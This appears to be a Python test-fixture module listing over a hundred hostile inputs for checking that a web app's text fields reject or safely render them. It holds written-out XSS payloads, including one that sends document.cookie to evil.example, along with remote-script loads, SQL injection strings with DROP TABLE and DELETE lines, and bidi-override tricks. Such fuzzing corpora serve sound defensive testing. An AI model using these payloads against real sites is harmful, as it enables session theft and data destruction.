"""A corpus of hostile input: every text field a person can fill must refuse these with a clear
message or store them and show them as inert text.

Each entry is (label, payload). The corpus is built in code so very long strings and characters
that are awkward in a data file (NUL, lone surrogates) stay readable here.
"""

SCRIPT_INJECTIONS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>document.location='//evil.example/?c='+document.cookie</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>import('//evil.example')</script>",
    "<<script>alert(1)//<</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<a href=# onclick=alert(1)>click</a>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<div hx-get=/admin/ hx-trigger=load>htmx</div>",
    "<div hx-on:click=alert(1)>htmx on</div>",
]

DANGEROUS_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript://%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    'https://example.com/"><script>alert(1)</script>',
    "https://example.com/'onmouseover='alert(1)",
    'https://example.com/" onclick="alert(1)',
    "https://example.com/<b>bold</b>",
    "http://evil.example/?q=<script>",
    "https://example.com/path?a=1&b=<img src=x>",
    "//evil.example/",
    "https://exa\u202emple.com/",
    "https://user:pass@evil.example/",
]

BROKEN_MARKUP = [
    "<b>unclosed bold",
    "</div></div></main>",
    "<div><span></div></span>",
    "<!-- comment",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p><p><p><p><p>",
    '<a href="https://example.com">link</a>',
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<base href=//evil.example/>",
    "<textarea>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;&lt;&gt;&quot;&#39;",
    "{{ 7*7 }}",
    "{% debug %}",
    "${7*7}",
    "<%= 7*7 %>",
]

QUOTES = [
    '"',
    "'",
    "`",
    "\"'`",
    'He said "it\'s <fine>"',
    "'; alert(1); //",
    "\\\"\\'",
    "\u201csmart quotes\u201d \u2018here\u2019",
]

CONTROL_AND_ENCODING = [
    "nul\x00byte",
    "\x00",
    "bell\x07and\x1bescape",
    "lone high surrogate \ud800",
    "lone low surrogate \udfff",
    "carriage\rreturn",
    "line\u2028separator",
    "paragraph\u2029separator",
    "backspace\x08",
    "del\x7f",
]

DIRECTION_AND_INVISIBLE = [
    "\u202eevil.exe\u202dtxt",
    "right-to-left override \u202eolleh",
    "\u202agnome\u202c",
    "\u2066isolate\u2069",
    "zero\u200bwidth\u200bspace",
    "zero\u200cwidth\u200dnon-joiner",
    "\ufeffbyte order mark",
    "\u2060word joiner",
    "\u00adsoft hyphen",
    "\u200f\u200e marks",
    "\u3164",
    "   ",
]

SQL_LOOKING = [
    "' OR '1'='1",
    "'; DROP TABLE posts_post; --",
    '" OR 1=1 --',
    "1; SELECT pg_sleep(5)",
    "admin'--",
    "%' AND 1=1 AND '%'='",
    "UNION SELECT username, password FROM accounts_user",
    "\\'; DELETE FROM accounts_user WHERE 't'='t",
]

LONG = [
    "a" * 10_000,
    "<script>" * 1_250,
    "\U0001f431" * 10_000,
    "word " * 2_000,
    "https://example.com/" + "a" * 9_980,
]


def corpus() -> list[tuple[str, str]]:
    groups = {
        "script": SCRIPT_INJECTIONS,
        "handler": EVENT_HANDLERS,
        "url": DANGEROUS_URLS,
        "markup": BROKEN_MARKUP,
        "quote": QUOTES,
        "control": CONTROL_AND_ENCODING,
        "direction": DIRECTION_AND_INVISIBLE,
        "sql": SQL_LOOKING,
        "long": LONG,
    }
    return [
        (f"{group}-{index}", payload)
        for group, payloads in groups.items()
        for index, payload in enumerate(payloads)
    ]


def _sendable(payload: str) -> bool:
    try:
        payload.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


PAYLOADS = corpus()
assert len(PAYLOADS) >= 100, len(PAYLOADS)
# What can travel in an HTTP request: a lone surrogate has no UTF-8 form (browsers send U+FFFD),
# so request-level tests use these; code-level tests (text rendering, counting) use PAYLOADS.
SENDABLE_PAYLOADS = [(label, payload) for label, payload in PAYLOADS if _sendable(payload)]
